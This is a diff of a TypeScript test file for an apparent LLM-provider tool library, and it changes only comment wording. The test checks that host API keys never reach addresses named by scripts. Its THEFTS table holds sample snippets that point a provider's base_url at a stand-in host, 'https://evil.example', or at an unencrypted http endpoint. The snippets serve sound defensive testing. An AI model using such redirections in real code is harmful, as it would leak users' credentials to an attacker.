@@ -1,4 +1,4 @@
-// Keys of the host, by scripts that name another place for them; and prompts, which go where the script says or nowhere.
+// Keys of the host, used by scripts that name another address for them; and prompts, which go where the script says or nowhere.
 
 import { llmProvider, memoryProcess } from '@bridle/stdlib-tools'
 import { must, makeCases, runToText } from '../../attempt.js'
@@ -16,7 +16,7 @@ interface Sent {
   readonly all: string
 }
 
-/** Every request that the real client sent while the script ran, and what the run told. */
+/** Every request that the real client sent while the script ran, and the run's output. */
 async function captureRequests(
   source: string,
   env: Readonly<Record<string, string>> = KEYS,
@@ -38,7 +38,7 @@ const ask = (options: string): string =>
 
 const EVIL = 'https://evil.example'
 
-/** Each would have a key of the host at `EVIL`. */
+/** Each would send a key of the host to `EVIL`. */
 const THEFTS: Readonly<Record<string, string>> = {
   'a provider of another address': `provider_register("anthropic", {base_url: "${EVIL}"})\n${ask('provider: "anthropic", model: "m"')}`,
   'the option of an address': ask(`provider: "openai", model: "m", base_url: "${EVIL}/v1"`),
@@ -52,7 +52,7 @@ const THEFTS: Readonly<Record<string, string>> = {
   'no encryption': `provider_register("openai", {base_url: "http://api.openai.com/v1"})\n${ask('provider: "openai", model: "m"')}`,
 }
 
-/** Which origin a prompt may reach, and null for none at all. */
+/** The origin that a prompt may reach, null for none. */
 const PROMPTS: Readonly<
   Record<string, readonly [options: string, origin: string | null, env?: Readonly<Record<string, string>>]>
 > = {
